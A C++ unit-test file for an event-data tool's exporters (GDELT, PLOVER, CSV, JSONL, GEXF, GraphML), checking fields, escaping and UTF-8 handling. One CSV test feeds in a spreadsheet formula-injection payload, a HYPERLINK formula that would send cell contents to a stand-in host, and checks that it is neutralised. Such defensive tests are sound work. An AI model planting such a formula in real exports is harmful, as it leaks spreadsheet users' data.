// store writers: GDELT/PLOVER/JSONL/CSV/table event rows, GEXF/GraphML/JSON
// graphs and dyad time series, checked field by field.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>
#include <vector>

#include "format/actor_text.h"
#include "format/common.h"
#include "format/enrich.h"
#include "format/events.h"
#include "format/graph.h"
#include "format/plover_map.h"
#include "format/series.h"

using namespace kizashi;
using nlohmann::json;

namespace {

const std::string kSentence = "米国と中国海軍は東京で外相会談を開いた。";

StoredEvent sample_event() {
  StoredEvent e;
  e.id = 4211, e.doc_id = 17, e.sentence_index = 0, e.event_date = "2024-10-16";
  e.date_precision = "day", e.root_event = true;
  e.source = "USAGOV", e.target = "CHNMILNAV", e.source_country = "USA", e.target_country = "CHN";
  e.source_text = "米国", e.target_text = "中国海軍";
  e.source_name = "United States", e.target_name = "China";
  e.code = "036", e.root_code = "03", e.quad_class = 1, e.goldstein = 4.0, e.plover = "CONSULT";
  e.rule = "meet:会談", e.predicate = "開く", e.quote_text = "対話を続ける", e.quote_speaker = "USAGOV";
  e.actor_ids = {"countries:USA", "organizations:CHNMIL"};
  e.doc_name = "news/2024-10-16.txt", e.doc_url = "https://example.com/a?x=1", e.doc_date = "2024-10-17";
  e.lang = "ja", e.added = "2024-10-19T08:30:00Z", e.num_articles = 3, e.sentence = kSentence;
  e.coder = "kizashi 0.1.0", e.data_hash = "0123456789abcdef";
  return e;
}

std::string render(EventFormat f, const StoredEvent& e) {
  std::ostringstream out;
  write_event(f, e, out);
  return out.str();
}

std::vector<std::string> split(const std::string& s, char sep) {
  std::vector<std::string> v(1);
  for (char c : s) {
    if (c == sep) v.emplace_back();
    else v.back() += c;
  }
  return v;
}

// The GDELT fields of a single '\n'-terminated line.
std::vector<std::string> gdelt_fields(const StoredEvent& e) {
  std::string line = render(EventFormat::Gdelt, e);
  EXPECT_EQ(line.back(), '\n');
  EXPECT_EQ(line.find('\n'), line.size() - 1);
  line.pop_back();
  return split(line, '\t');
}

void expect_fields(const std::vector<std::string>& f, const std::map<size_t, std::string>& want) {
  for (const auto& [i, v] : want) EXPECT_EQ(f.at(i), v) << "field " << i;
}

// Strict UTF-8 validity (no overlongs, surrogates or cut sequences).
bool valid_utf8(const std::string& s) {
  static const unsigned kMin[] = {0, 0, 0x80, 0x800, 0x10000};
  for (size_t i = 0; i < s.size();) {
    unsigned c = static_cast<unsigned char>(s[i]);
    size_t len = c < 0x80 ? 1 : (c & 0xe0) == 0xc0 ? 2 : (c & 0xf0) == 0xe0 ? 3 : (c & 0xf8) == 0xf0 ? 4 : 0;
    if (len == 0 || i + len > s.size()) return false;
    unsigned v = len == 1 ? c : c & (0x7f >> len);
    for (size_t k = 1; k < len; ++k) {
      unsigned cc = static_cast<unsigned char>(s[i + k]);
      if ((cc & 0xc0) != 0x80) return false;
      v = (v << 6) | (cc & 0x3f);
    }
    if (v < kMin[len] || v > 0x10ffff || (v >= 0xd800 && v <= 0xdfff)) return false;
    i += len;
  }
  return true;
}

// One RFC 4180 record ending in '\n' -> fields.
std::vector<std::string> parse_csv_record(const std::string& s) {
  std::vector<std::string> out(1);
  bool quoted = false;
  for (size_t i = 0; i + 1 < s.size(); ++i) {
    if (s[i] == '"' && quoted && s[i + 1] == '"') out.back() += s[i++];
    else if (s[i] == '"') quoted = !quoted;
    else if (s[i] == ',' && !quoted) out.emplace_back();
    else out.back() += s[i];
  }
  EXPECT_FALSE(quoted);
  EXPECT_EQ(s.back(), '\n');
  return out;
}

// A small XML checker: tags balance, attribute values are double-quoted and
// hold no '<', every '&' starts a predefined entity or a numeric reference, no
// bare '>' in text. Collects the attributes of every element by element name.
struct XmlDoc {
  std::string error;  // "" = well-formed as far as checked
  std::multimap<std::string, std::map<std::string, std::string>> elements;
};

bool good_entity(const std::string& s, size_t amp) {
  for (std::string ent : {"&amp;", "&lt;", "&gt;", "&quot;", "&apos;"})
    if (s.compare(amp, ent.size(), ent) == 0) return true;
  size_t k = amp + 2;
  while (s.compare(amp, 2, "&#") == 0 && k < s.size() && isdigit(static_cast<unsigned char>(s[k]))) ++k;
  return k > amp + 2 && k < s.size() && s[k] == ';';
}

XmlDoc check_xml(const std::string& s) {
  XmlDoc doc;
  auto fail = [&doc](const std::string& why) { if (doc.error.empty()) doc.error = why; };
  std::vector<std::string> stack;
  for (size_t i = 0; i < s.size();) {
    if (s[i] == '&' && !good_entity(s, i)) fail("bad entity at " + std::to_string(i));
    if (s[i] == '>') fail("bare > at " + std::to_string(i));
    if (s[i] != '<') { ++i; continue; }
    if (s.compare(i, 2, "<?") == 0) { i = s.find("?>", i) + 2; continue; }
    bool closing = s[i + 1] == '/';
    size_t j = s.find_first_of(" \n/>", i + 1 + closing);
    std::string name = s.substr(i + 1 + closing, j - i - 1 - closing);
    std::map<std::string, std::string> attrs;
    for (;;) {
      j = s.find_first_not_of(" \n", j);
      if (j == std::string::npos) { fail("unterminated tag"); return doc; }
      if (s[j] == '>' || s.compare(j, 2, "/>") == 0) break;
      size_t eq = s.find('=', j), end = s.find('"', eq + 2);
      std::string key = s.substr(j, eq - j), value = s.substr(eq + 2, end - eq - 2);
      if (s[eq + 1] != '"' || end == std::string::npos) { fail("unquoted attribute " + key); return doc; }
      if (value.find('<') != std::string::npos) fail("< in attribute " + key);
      for (size_t a = value.find('&'); a != std::string::npos; a = value.find('&', a + 1))
        if (!good_entity(value, a)) fail("bad entity in attribute " + key);
      if (!attrs.emplace(key, value).second) fail("repeated attribute " + key);
      j = end + 1;
    }
    bool self_closing = s[j] == '/';
    if (closing && (stack.empty() || stack.back() != name)) fail("mismatched </" + name + ">");
    if (closing && !stack.empty()) stack.pop_back();
    if (!closing) doc.elements.emplace(name, attrs);
    if (!closing && !self_closing) stack.push_back(name);
    i = j + (self_closing ? 2 : 1);
  }
  if (!stack.empty()) fail("unclosed <" + stack.back() + ">");
  return doc;
}

Graph sample_graph() {
  Graph g;
  g.level = "country", g.since = "2024-10-01", g.until = "";
  g.nodes = {{"CHN", "", 2, 1, 1}, {"JPN", "A&B <\"C\"> 'd'\x01", 3, 1, 2}, {"USA", "米国", 4, 3, 1}};
  g.edges = {{"CHN", "JPN", 1, {0, 0, 0, 1}, -10},
             {"USA", "JPN", 2, {1, 1, 0, 0}, 0.1 + 0.2 + 3.7},  // 4.0 with float noise
             {"USA", "IGOUNO", 1, {0, 0, 1, 0}, -2}};           // endpoint missing from nodes
  return g;
}

// The node ids of an XML graph, checking that every edge joins two of them.
std::set<std::string> checked_node_ids(const XmlDoc& doc, size_t want_edges) {
  std::set<std::string> ids;
  for (auto [it, end] = doc.elements.equal_range("node"); it != end; ++it)
    EXPECT_TRUE(ids.insert(it->second.at("id")).second) << "repeated node " << it->second.at("id");
  std::set<std::string> edge_ids;
  for (auto [it, end] = doc.elements.equal_range("edge"); it != end; ++it) {
    EXPECT_TRUE(ids.count(it->second.at("source"))) << it->second.at("source");
    EXPECT_TRUE(ids.count(it->second.at("target"))) << it->second.at("target");
    edge_ids.insert(it->second.at("id"));
  }
  EXPECT_EQ(edge_ids.size(), want_edges);
  return ids;
}

// Each key of `want` has the same value in `j`.
void expect_subset(const json& j, const json& want) {
  for (const auto& [k, v] : want.items()) EXPECT_EQ(j.value(k, json()), v) << k;
}

std::string render_graph(GraphFormat f, const Graph& g) {
  std::ostringstream out;
  write_graph(f, g, out);
  return out.str();
}

}  // namespace

TEST(ExportFormats, ParseNames) {
  EventFormat ef = EventFormat::Table;
  EXPECT_TRUE(parse_event_format("gdelt", &ef) && ef == EventFormat::Gdelt);
  EXPECT_TRUE(parse_event_format("plover", &ef) && ef == EventFormat::Plover);
  EXPECT_TRUE(parse_event_format("csv", &ef) && ef == EventFormat::Csv);
  EXPECT_FALSE(parse_event_format("GDELT2", &ef));
  EXPECT_EQ(ef, EventFormat::Csv);
  GraphFormat gf = GraphFormat::Json;
  EXPECT_TRUE(parse_graph_format("graphml", &gf) && gf == GraphFormat::Graphml);
  EXPECT_FALSE(parse_graph_format("dot", &gf));
  SeriesFormat sf = SeriesFormat::Table;
  EXPECT_TRUE(parse_series_format("json", &sf) && sf == SeriesFormat::Json);
  EXPECT_FALSE(parse_series_format("jsonl", &sf));
}

TEST(ExportGdelt, SixtyOneFieldsInGdeltOrder) {
  auto f = gdelt_fields(sample_event());
  ASSERT_EQ(f.size(), 61u);
  expect_fields(f, {{0, "4211"}, {1, "20241016"}, {2, "202410"}, {3, "2024"},
                    {4, "2024.7945"},  // day 290 of 2024 / 365
                    {5, "USAGOV"}, {6, "UNITED STATES"}, {7, "USA"}, {8, ""}, {12, "GOV"}, {13, ""},
                    {15, "CHNMILNAV"}, {16, "CHINA"}, {17, "CHN"}, {22, "MIL"}, {23, "NAV"},
                    {25, "1"}, {26, "036"}, {27, "036"}, {28, "03"}, {29, "1"}, {30, "4.0"},
                    {31, "1"}, {32, "1"}, {33, "3"}, {34, ""},
                    {59, "20241019083000"}, {60, "https://example.com/a?x=1"}});
  // No place known: each Geo_Type is 0 and its seven fields empty, as GDELT writes it.
  for (int i = 35; i <= 58; ++i) EXPECT_EQ(f[i], (i - 35) % 8 == 0 ? "0" : "") << "geo field " << i;
}

// Actor1Geo_ (35..42), Actor2Geo_ (43..50) and ActionGeo_ (51..58) in GDELT's
// order: Type, FullName, CountryCode, ADM1Code, ADM2Code, Lat, Long, FeatureID.
TEST(ExportGdelt, GeographyColumnsInGdeltOrder) {
  StoredEvent e = sample_event();
  e.source_geo = GeoPlace{1, "United States", "US", "US", "38", "-97", "US"};
  e.action_geo = GeoPlace{4, "Tokyo, Tokyo, Japan", "JA", "JA40", "35.69", "139.69", ""};
  auto f = gdelt_fields(e);
  ASSERT_EQ(f.size(), 61u);
  expect_fields(f, {{35, "1"}, {36, "United States"}, {37, "US"}, {38, "US"}, {39, ""}, {40, "38"}, {41, "-97"},
                    {42, "US"}, {43, "0"}, {44, ""}, {50, ""}, {51, "4"}, {52, "Tokyo, Tokyo, Japan"}, {53, "JA"},
                    {54, "JA40"}, {55, ""}, {56, "35.69"}, {57, "139.69"}, {58, ""}});
}

// The Mentions table: 16 columns; the event id is its first mention's.
TEST(ExportGdelt, MentionsTableColumns) {
  StoredEvent e = sample_event();
  e.first_mention_id = 4100, e.first_added = "2024-10-18T01:02:03Z", e.doc_chars = 412, e.sentence_index = 2;
  std::ostringstream out;
  write_event(EventFormat::GdeltMentions, e, out);
  std::string line = out.str();
  ASSERT_EQ(line.back(), '\n');
  line.pop_back();
  const auto f = split(line, '\t');
  ASSERT_EQ(f.size(), 16u);
  expect_fields(f, {{0, "4100"}, {1, "20241018010203"}, {2, "20241019083000"}, {3, "1"}, {4, "example.com"},
                    {5, "https://example.com/a?x=1"}, {6, "3"}, {7, "-1"}, {8, "-1"}, {9, "-1"}, {10, "1"},
                    {11, ""}, {12, "412"}, {13, ""}, {14, "srclc:jpn"}, {15, ""}});
  e.doc_url = "";
  std::ostringstream local;
  write_event(EventFormat::GdeltMentions, e, local);
  EXPECT_NE(local.str().find("\tnews/2024-10-16.txt\tnews/2024-10-16.txt\t3\t"), std::string::npos) << local.str();
}

TEST(ExportGdelt, OrganisationsFallbacksAndSanitisedNames) {
  StoredEvent e = sample_event();
  e.source = "IGOWSTAUK", e.source_text = "AUKUS首脳会合", e.source_name = "Aukus\tsummit\nmeeting\r";
  e.target = "JPN", e.target_text = "日本", e.target_name = "";
  e.code = "1723", e.root_code = "17", e.quad_class = 4, e.goldstein = -7.5;
  e.sentence_index = 3, e.event_date = "", e.doc_url = "", e.root_event = false;
  auto f = gdelt_fields(e);
  ASSERT_EQ(f.size(), 61u);
  expect_fields(f, {{1, "20241017"},  // doc_date
                    {5, "IGOWSTAUK"}, {6, "AUKUS SUMMIT MEETING "}, {7, ""}, {8, "WST"}, {12, "IGO"}, {13, "AUK"},
                    {15, "JPN"}, {16, ""}, {17, "JPN"}, {22, ""}, {25, "0"}, {26, "1723"}, {27, "172"},
                    {28, "17"}, {29, "4"}, {30, "-7.5"}, {60, "news/2024-10-16.txt"}});
}

TEST(ExportGdelt, DatesAtTheEdgesOfTheYear) {
  StoredEvent e = sample_event();
  e.event_date = "2023-12-31";
  EXPECT_EQ(gdelt_fields(e)[4], "2023.9999");
  e.event_date = "2024-01-01";
  EXPECT_EQ(gdelt_fields(e)[4], "2024.0027");
  e.event_date = "2024-02-30";  // not a date: fields stay empty
  e.doc_date = "";
  e.added = "yesterday";
  auto f = gdelt_fields(e);
  ASSERT_EQ(f.size(), 61u);
  for (int i = 1; i <= 4; ++i) EXPECT_EQ(f[i], "");
  EXPECT_EQ(f[59], "");
  e.source = "GOV";  // an agent with no country
  e.sentence_index = 1;  // the dateline: the store says it is not in the lead
  e.root_event = false;
  f = gdelt_fields(e);
  expect_fields(f, {{7, ""}, {12, "GOV"}, {25, "0"}});
  e.sentence_index = 5, e.root_event = true;  // the lead paragraph, wherever it stands
  expect_fields(gdelt_fields(e), {{25, "1"}});
}

// Issue 14 item 1: a month (先月) or a year (昨年) is kept with its precision;
// GDELT files it under its first day (the convention docs/store.md states).
TEST(ExportDates, MonthAndYearDatesReachEveryFormat) {
  StoredEvent e = sample_event();
  e.event_date = "2025-02", e.date_precision = "month", e.doc_date = "2025-03-04";
  auto f = gdelt_fields(e);
  expect_fields(f, {{1, "20250201"}, {2, "202502"}, {3, "2025"}, {4, "2025.0877"}});  // day 32 / 365
  auto c = parse_csv_record(render(EventFormat::Csv, e));
  expect_fields(c, {{1, "2025-02"}, {2, "month"}});
  EXPECT_NE(render(EventFormat::Table, e).find("2025-02 "), std::string::npos);
  EXPECT_EQ(json::parse(render(EventFormat::Jsonl, e))["event_date"], "2025-02");

  e.event_date = "2024", e.date_precision = "year";
  expect_fields(gdelt_fields(e), {{1, "20240101"}, {2, "202401"}, {3, "2024"}, {4, "2024.0027"}});
  expect_fields(parse_csv_record(render(EventFormat::Csv, e)), {{1, "2024"}, {2, "year"}});
}

// Issue 14 item 2: names are the words of the sentence; how the coder resolved
// them (WORDS=REFERENT, a note, an actor the predicate implies) is apart.
TEST(ActorText, NamesAreTheWordsOfTheSentence) {
  struct Case {
    std::string shown, sentence, predicate, words, resolution;
  };
  const Case cases[] = {
      {"両首脳=岸田首相/尹大統領", "両首脳は共同声明で連携の強化を確認した。", "確認し", "両首脳", "両首脳=岸田首相/尹大統領"},
      {"3カ国=(salience)", "外務省は3カ国の合同演習に懸念を示した。", "示し", "3カ国", "3カ国=(salience)"},
      {"同国=韓国と日本", "同国と日本は海洋協力で合意した。", "合意し", "同国と日本", "同国=韓国と日本"},
      {"日本と同国=韓国", "日本と同国は海洋協力で合意した。", "合意し", "日本と同国", "日本と同国=韓国"},
      {"両首脳 (shared with 会談)", "両首脳は会談し、声明を出した。", "出し", "両首脳", "両首脳 (shared with 会談)"},
      {"訪米し", "首相は訪米し、大統領と会談した。", "訪米し", "", "訪米し"},
      {"米国", "米国は声明を出した。", "出し", "米国", ""},
      {"A=B", "式はA=Bと書く。", "書く", "A=B", ""},  // in the sentence as it is: kept
  };
  for (const auto& c : cases) {
    ActorText t = split_actor_text(c.shown, c.sentence, c.predicate);
    EXPECT_EQ(t.words, c.words) << c.shown;
    EXPECT_EQ(t.resolution, c.resolution) << c.shown;
  }
}

TEST(ExportCsv, ResolvedNamesGoToTheirOwnColumns) {
  StoredEvent e = sample_event();
  e.sentence = "両国は東京で外相会談を開いた。";
  e.source_text = "両国=米国/中国", e.target_text = "両国=米国/中国";
  auto f = parse_csv_record(render(EventFormat::Csv, e));
  expect_fields(f, {{12, "両国"}, {13, "両国"}, {14, "両国=米国/中国"}, {15, "両国=米国/中国"}});
  json j = json::parse(render(EventFormat::Jsonl, e));
  expect_subset(j, {{"source_text", "両国"}, {"target_resolution", "両国=米国/中国"}});
  auto g = gdelt_fields(e);
  expect_fields(g, {{6, "UNITED STATES"}, {16, "CHINA"}});
}

TEST(ExportCsv, HeaderAndQuotingRoundTrip) {
  std::ostringstream head;
  write_events_header(EventFormat::Csv, head);
  auto columns = split(head.str().substr(0, head.str().size() - 1), ',');
  ASSERT_EQ(columns.size(), 23u);
  EXPECT_EQ(columns[21], "coder");
  EXPECT_EQ(columns[22], "data_hash");
  EXPECT_EQ(columns[0], "id");
  EXPECT_EQ(columns[2], "date_precision");
  EXPECT_EQ(columns[10], "goldstein");
  EXPECT_EQ(columns[14], "source_resolution");
  EXPECT_EQ(columns[15], "target_resolution");
  EXPECT_EQ(columns[20], "sentence");

  StoredEvent e = sample_event();
  e.sentence = "He said \"yes, 合意\",\nthen left";
  e.source_text = "a,b", e.target_text = "two\nlines", e.rule = "say \"hi\"";
  std::string line = render(EventFormat::Csv, e);
  EXPECT_NE(line.find(",\"say \"\"hi\"\"\","), std::string::npos) << line;
  EXPECT_NE(line.find("\"He said \"\"yes, 合意\"\",\nthen left\""), std::string::npos) << line;
  auto f = parse_csv_record(line);
  ASSERT_EQ(f.size(), 23u);
  expect_fields(f, {{21, "kizashi 0.1.0"}, {22, "0123456789abcdef"}});
  expect_fields(f, {{0, "4211"}, {1, "2024-10-16"}, {2, "day"}, {3, "USAGOV"}, {10, "4.0"}, {11, "CONSULT"},
                    {12, "a,b"}, {13, "two\nlines"}, {14, ""}, {15, ""}, {16, "say \"hi\""},
                    {18, "https://example.com/a?x=1"}, {20, e.sentence}});
}

// Issue 13 item 13: a cell that starts with = + - @ (or TAB, CR) is a formula
// to a spreadsheet; it gets a leading ' (OWASP), plain numbers stay numbers.
TEST(ExportCsv, FormulaCellsAreNeutralised) {
  StoredEvent e = sample_event();
  e.goldstein = -2;
  e.source_text = "=HYPERLINK(\"http://x.example/?\"&A1,\"a\")";
  e.target_text = "+81 3";
  e.rule = "-1+1";
  e.doc_name = "@SUM(A1)";
  e.doc_url = "\t=1";
  e.sentence = "\r=2";
  auto f = parse_csv_record(render(EventFormat::Csv, e));
  ASSERT_EQ(f.size(), 23u);
  // "=HYPERLINK(...)" reads as a resolution of no words: the formula is in source_resolution.
  expect_fields(f, {{10, "-2.0"}, {12, ""}, {14, "'=HYPERLINK(\"http://x.example/?\"&A1,\"a\")"}, {13, "'+81 3"},
                    {16, "'-1+1"}, {17, "'@SUM(A1)"}, {18, "'\t=1"}, {20, "'\r=2"}});
  EXPECT_EQ(csv_field("-12.5"), "-12.5");
  EXPECT_EQ(csv_field("+3"), "+3");
  EXPECT_EQ(csv_field("-"), "'-");
  EXPECT_EQ(csv_field("1-2"), "1-2") << "only the first character counts";
  EXPECT_EQ(csv_field("- 3"), "'- 3");
  EXPECT_EQ(csv_field("=1,2"), "\"'=1,2\"");
}

// Issue 14 item 5: the PLOVER field names and shapes (event_type, mode, context
// list, actor/recipient objects with code and text, version).
TEST(ExportPlover, PloverFieldsAndShapes) {
  StoredEvent e = sample_event();
  e.doc_url = "";
  e.plover_mode = "", e.plover_context = {"diplomatic"}, e.plover_version = "PLOVER Draft 0.8";
  json j = json::parse(render(EventFormat::Plover, e));
  EXPECT_EQ(j, json::parse(R"({"id":"4211","version":"PLOVER Draft 0.8","date":"2024-10-16","date_precision":"day",
      "event_type":"CONSULT","mode":"","context":["diplomatic"],
      "actor":{"code":"USAGOV","text":"米国","country":"USA"},
      "recipient":{"code":"CHNMILNAV","text":"中国海軍","country":"CHN"},
      "cameo":"036","goldstein":4.0,"quad_class":1,"text":"米国と中国海軍は東京で外相会談を開いた。",
      "story_id":"news/2024-10-16.txt","url":null,"language":"ja","rule":"meet:会談",
      "coder":"kizashi 0.1.0","data_hash":"0123456789abcdef"})"));
  e.plover = "";
  e.source = "IGOUNO";
  e.target_text = "両国=米国/中国";  // the words, not the resolution
  j = json::parse(render(EventFormat::Plover, e));
  EXPECT_TRUE(j["event_type"].is_null());
  EXPECT_TRUE(j["actor"]["country"].is_null());
  EXPECT_EQ(j["recipient"]["text"], "両国");
}

TEST(PloverMap, ModesAndContextsFromCameo2Plover) {
  PloverMap m = PloverMap::load(std::string(KIZASHI_TEST_DATA) + "/cameo/plover.tsv");
  EXPECT_NE(m.version().find("0.8"), std::string::npos);
  const PloverEntry* visit = m.find("042");
  ASSERT_NE(visit, nullptr);
  EXPECT_EQ(visit->event_type, "CONSULT");
  EXPECT_EQ(visit->mode, "visit");
  const PloverEntry* mil = m.find("0312");
  ASSERT_NE(mil, nullptr);
  EXPECT_EQ(mil->event_type, "AGREE");
  EXPECT_EQ(mil->context, std::vector<std::string>{"military"});
  const PloverEntry* crime = m.find("091");
  ASSERT_NE(crime, nullptr);
  EXPECT_EQ(crime->context, (std::vector<std::string>{"crime", "corruption"}));
  EXPECT_EQ(m.find("0399"), m.find("039"));  // nearest listed parent
  EXPECT_EQ(m.find("9"), nullptr);
}

TEST(PloverMap, BadLinesNameTheirFileAndLine) {
  const std::string path = (std::filesystem::temp_directory_path() / "kizashi_plover_test.tsv").string();
  auto error_of = [&](const std::string& text) {
    std::ofstream(path) << text;
    try {
      PloverMap::load(path);
    } catch (const std::exception& e) {
      return std::string(e.what());
    }
    return std::string();
  };
  EXPECT_EQ(error_of("version\tx\n04\tCONSULT\t-\n"), path + ": line 2: want 4 TAB-separated columns (code, event type, mode, contexts)");
  EXPECT_EQ(error_of("version\tx\n# c\n4a\tCONSULT\t-\t-\n"), path + ": line 3: '4a' is not a CAMEO code (2-4 digits)");
  EXPECT_EQ(error_of("version\tx\n04\tCONSULT\tVisit\t-\n"), path + ": line 2: mode 'Visit' is not lower-case ASCII");
  EXPECT_EQ(error_of("04\tCONSULT\t-\t-\n"), path + ": no \"version\" line");
  std::filesystem::remove(path);
}

TEST(ExportJsonl, EveryFieldAndJapaneseIntact) {
  std::string line = render(EventFormat::Jsonl, sample_event());
  EXPECT_NE(line.find(kSentence), std::string::npos) << "escaped instead of raw UTF-8: " << line;
  EXPECT_EQ(line.find('\n'), line.size() - 1);
  json j = json::parse(line);
  expect_subset(j, {{"id", 4211}, {"doc_id", 17}, {"doc", "news/2024-10-16.txt"}, {"sentence", kSentence},
                    {"target_text", "中国海軍"}, {"source_country", "USA"}, {"plover", "CONSULT"},
                    {"quote", {{"text", "対話を続ける"}, {"speaker", "USAGOV"}}},
                    {"actor_ids", {"countries:USA", "organizations:CHNMIL"}}, {"num_articles", 3},
                    {"intent", false}, {"added", "2024-10-19T08:30:00Z"}});
  EXPECT_EQ(j["predicate_span"], json::array({0, 0}));  // not known for this event
  EXPECT_EQ(j["date_precision"], "day");
  expect_subset(j, {{"source_resolution", ""}, {"target_resolution", ""}});
  EXPECT_EQ(j["root_event"], true);
  expect_subset(j, {{"coder", "kizashi 0.1.0"}, {"data_hash", "0123456789abcdef"}});  // issue 14 item 6
  // English names of the actors and of the code (set by the caller, format/enrich.h; "" when unknown).
  expect_subset(j, {{"source_name", "United States"}, {"target_name", "China"}, {"code_name", ""}});
  EXPECT_EQ(j.size(), 38u);

  StoredEvent e = sample_event();
  e.plover = "";
  e.quote_text = e.quote_speaker = "";
  e.sentence = "bad \xff byte";
  j = json::parse(render(EventFormat::Jsonl, e));
  EXPECT_TRUE(j["plover"].is_null());
  EXPECT_TRUE(j["quote"].is_null());
  EXPECT_EQ(j["sentence"], "bad \xEF\xBF\xBD byte");
}

// What the enricher adds from data/: names of the actors and the code, the id base.
TEST(ExportEnricher, EnglishNamesOfActorsAndCodes) {
  const ExportEnricher enrich = ExportEnricher::load(KIZASHI_TEST_DATA, EventFormat::Jsonl, 1000);
  StoredEvent e = sample_event();
  e.source_name = e.target_name = "";
  e.code = "111";
  e.first_mention_id = 7;
  enrich(e);
  EXPECT_EQ(e.code_name, "Criticize or denounce");  // CAMEO 111
  EXPECT_EQ(e.source_name, "United States");
  EXPECT_EQ(e.target_name, "China");
  EXPECT_EQ(e.id, 5211);
  EXPECT_EQ(e.first_mention_id, 1007);
  EXPECT_EQ(e.action_geo.type, 0);  // geography only for the GDELT event table
  const ExportEnricher gdelt = ExportEnricher::load(KIZASHI_TEST_DATA, EventFormat::Gdelt, 0);
  StoredEvent g = sample_event();
  gdelt(g);
  EXPECT_EQ(g.source_geo.country, "US");
  EXPECT_EQ(g.target_geo.country, "CH");
  EXPECT_EQ(g.action_geo.full_name.rfind("Tokyo", 0), 0u);  // 東京で in the sentence
}

TEST(ExportTable, CutsOnCharacterBoundaries) {
  StoredEvent e = sample_event();
  std::string long_text = "x";  // one ASCII byte shifts every later character off a 3-byte grid
  for (int i = 0; i < 5; ++i) long_text += kSentence;
  e.sentence = long_text;
  std::string line = render(EventFormat::Table, e);
  EXPECT_TRUE(valid_utf8(line)) << line;
  EXPECT_EQ(line.find(long_text), std::string::npos);
  // 60 characters = "x" + 59 three-byte characters, then the ellipsis.
  std::string kept = long_text.substr(0, 1 + 59 * 3);
  EXPECT_NE(line.find(kept + "\xE2\x80\xA6\n"), std::string::npos) << line;
  EXPECT_NE(line.find("USAGOV -> CHNMILNAV"), std::string::npos);
  EXPECT_NE(line.find("CONSULT"), std::string::npos);

  std::ostringstream head;
  write_events_header(EventFormat::Table, head);
  EXPECT_EQ(head.str().find("source -> target"), line.find("USAGOV -> CHNMILNAV"));
  EXPECT_EQ(head.str().find("sentence"), line.find(kept));

  e.sentence = kSentence + "\tです";  // short: kept whole, tab removed
  line = render(EventFormat::Table, e);
  EXPECT_NE(line.find(kSentence + " です\n"), std::string::npos);
}

TEST(ExportHeaders, OnlyCsvAndTableHaveOne) {
  for (EventFormat f : {EventFormat::Gdelt, EventFormat::GdeltMentions, EventFormat::Jsonl, EventFormat::Plover}) {
    std::ostringstream out;
    write_events_header(f, out);
    EXPECT_EQ(out.str(), "");
  }
}

TEST(GraphGexf, WellFormedNodesEdgesAndEscapes) {
  std::string x = render_graph(GraphFormat::Gexf, sample_graph());
  XmlDoc doc = check_xml(x);
  ASSERT_EQ(doc.error, "") << "\n" << x;
  // Issue 14 item 4: 1.2draft, which networkx 2.8.8 (Debian 12) reads; 1.3 it cannot.
  EXPECT_EQ(doc.elements.find("gexf")->second.at("xmlns"), "http://www.gexf.net/1.2draft");
  EXPECT_EQ(doc.elements.find("gexf")->second.at("version"), "1.2");
  EXPECT_EQ(doc.elements.find("graph")->second.at("defaultedgetype"), "directed");
  EXPECT_EQ(checked_node_ids(doc, 3), (std::set<std::string>{"CHN", "IGOUNO", "JPN", "USA"}));
  EXPECT_EQ(doc.elements.find("edge")->second.at("id"), "0");
  EXPECT_NE(x.find("label=\"A&amp;B &lt;&quot;C&quot;&gt; &apos;d&apos;\""), std::string::npos) << x;
  EXPECT_NE(x.find("label=\"米国\""), std::string::npos);
  EXPECT_NE(x.find("<edge id=\"1\" source=\"USA\" target=\"JPN\" weight=\"2\">"), std::string::npos);
  EXPECT_NE(x.find("<attvalue for=\"goldstein_mean\" value=\"2\"/>"), std::string::npos) << x;
  EXPECT_NE(x.find("<attvalue for=\"goldstein_sum\" value=\"4\"/>"), std::string::npos) << x;
  EXPECT_NE(x.find("<viz:color r=\"255\" g=\"0\" b=\"0\"/>"), std::string::npos);  // CHN->JPN mean -10
  EXPECT_NE(x.find("level country; range 2024-10-01 .. (open)"), std::string::npos);
}

TEST(GraphGraphml, WellFormedWithDeclaredKeys) {
  std::string x = render_graph(GraphFormat::Graphml, sample_graph());
  XmlDoc doc = check_xml(x);
  ASSERT_EQ(doc.error, "") << "\n" << x;
  EXPECT_EQ(doc.elements.find("graphml")->second.at("xmlns"), "http://graphml.graphdrawing.org/xmlns");
  EXPECT_EQ(doc.elements.find("graph")->second.at("edgedefault"), "directed");
  std::map<std::string, std::string> key_type;
  for (auto [it, end] = doc.elements.equal_range("key"); it != end; ++it)
    key_type[it->second.at("id")] = it->second.at("attr.type");
  for (auto [it, end] = doc.elements.equal_range("data"); it != end; ++it)
    EXPECT_TRUE(key_type.count(it->second.at("key"))) << it->second.at("key");
  EXPECT_EQ(key_type["e_goldstein_mean"], "double");
  EXPECT_EQ(key_type["e_material_conflict"], "int");
  EXPECT_EQ(key_type["n_label"], "string");
  EXPECT_EQ(checked_node_ids(doc, 3), (std::set<std::string>{"CHN", "IGOUNO", "JPN", "USA"}));
  EXPECT_NE(x.find("<data key=\"n_label\">A&amp;B &lt;&quot;C&quot;&gt; &apos;d&apos;</data>"),
            std::string::npos) << x;
  EXPECT_NE(x.find("<data key=\"e_material_conflict\">1</data>"), std::string::npos);
}

TEST(GraphXml, InvalidBytesAndControlsNeverReachTheDocument) {
  Graph g = sample_graph();
  g.nodes[0].label = "bad\xC3(\x02ok";
  for (GraphFormat f : {GraphFormat::Gexf, GraphFormat::Graphml}) {
    std::string x = render_graph(f, g);
    EXPECT_TRUE(valid_utf8(x));
    EXPECT_EQ(x.find('\x02'), std::string::npos);
    EXPECT_EQ(x.find('\x01'), std::string::npos);
    EXPECT_NE(x.find("bad\xEF\xBF\xBD(ok"), std::string::npos);
  }
}

TEST(GraphJson, ParsesWithEdgeValues) {
  std::string s = render_graph(GraphFormat::Json, sample_graph());
  ASSERT_EQ(s.find('\n'), s.size() - 1);
  json j = json::parse(s);
  // Issue 14 item 4: networkx node-link data (node_link_graph reads "directed", "links").
  expect_subset(j, {{"directed", true}, {"multigraph", false}});
  EXPECT_FALSE(j.contains("edges"));
  expect_subset(j["graph"], {{"level", "country"}, {"since", "2024-10-01"}, {"until", nullptr}});
  ASSERT_EQ(j["nodes"].size(), 4u);
  expect_subset(j["nodes"][0], {{"id", "CHN"}, {"label", "CHN"}, {"events", 2}});
  expect_subset(j["nodes"][1], {{"id", "IGOUNO"}, {"label", "IGOUNO"}, {"events", 0}});
  EXPECT_EQ(j["nodes"][2]["label"], "A&B <\"C\"> 'd'\x01");
  ASSERT_EQ(j["links"].size(), 3u);
